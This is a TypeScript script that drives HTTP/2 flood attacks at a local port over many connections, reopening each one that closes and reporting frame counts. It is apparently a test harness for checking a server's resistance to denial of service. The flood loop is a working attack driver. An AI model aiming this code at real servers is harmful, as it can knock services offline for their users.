/**
 * Attacks the port PORT by HTTP/2 in the way that ATTACK names, on CONNECTIONS connections; one that is closed is opened
 * anew. Says how many frames it sent and how many connections were closed, once a second.
 */
import { connect, type Socket } from 'node:net';
import { PREFACE, settings } from '../../test/support/http2-frames.ts';
import { type Attack, attacks } from './attacks.ts';

const { PORT, ATTACK = '', CONNECTIONS } = process.env;
const attack = attacks[ATTACK] as Attack;
/** A server that names the last stream may be told of no more streams than these on one connection. */
const LAST_STREAM = 2 ** 31 - 1;
let frames = 0;
let closed = 0;

function start(): void {
  const socket = connect(Number(PORT), '127.0.0.1', () => {
    socket.setNoDelay(true);
    socket.write(Buffer.concat([PREFACE, settings(...(attack.settings ?? [])), attack.first ?? Buffer.alloc(0)]));
    if (attack.frames === 0) socket.end();
    else flood(socket);
  });
  if (attack.isDeaf) socket.pause();
  else socket.resume();
  socket.on('error', () => {});
  socket.on('close', () => {
    closed++;
    setImmediate(start);
  });
}

function flood(socket: Socket): void {
  const { burst, streams = 0, everyMs } = attack;
  let next = 1;
  const send = (): void => {
    while (socket.writable && next + 2 * streams < LAST_STREAM) {
      const bytes = typeof burst === 'function' ? burst(next) : burst;
      next += 2 * streams;
      frames += attack.frames;
      if (socket.write(bytes) && everyMs === undefined) continue;
      if (everyMs === undefined) socket.once('drain', send);
      else setTimeout(send, everyMs);
      return;
    }
  };
  send();
}

for (let i = 0; i < Number(CONNECTIONS); i++) start();
setInterval(() => console.log(`${frames} ${closed}`), 1000);
